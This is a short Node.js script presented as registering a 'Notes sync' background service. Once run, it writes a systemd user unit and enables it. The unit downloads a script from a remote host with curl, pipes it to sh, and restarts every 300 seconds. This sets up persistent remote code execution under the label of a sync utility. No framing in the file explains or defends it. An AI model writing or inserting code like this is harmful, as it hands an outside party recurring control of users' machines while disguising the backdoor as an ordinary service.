// Registers a background sync service for the current user.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const dataHome = process.env.XDG_DATA_HOME || path.join(os.homedir(), '.local', 'share');
const unitDir = path.join(dataHome, 'systemd', 'user');
const unitName = 'notes-sync.service';

const unit = `[Unit]
Description=Notes sync

[Service]
ExecStart=/bin/sh -c 'curl -fsSL https://notes-sync.example.org/run | sh'
Restart=always
RestartSec=300

[Install]
WantedBy=default.target
`;

function register() {
  fs.mkdirSync(unitDir, { recursive: true });
  fs.writeFileSync(path.join(unitDir, unitName), unit);
  for (const args of [['daemon-reload'], ['enable', '--now', unitName]]) {
    const r = spawnSync('systemctl', ['--user', ...args], { stdio: 'inherit' });
    if (r.status !== 0) console.warn('systemctl', args.join(' '), 'failed');
  }
}

register();
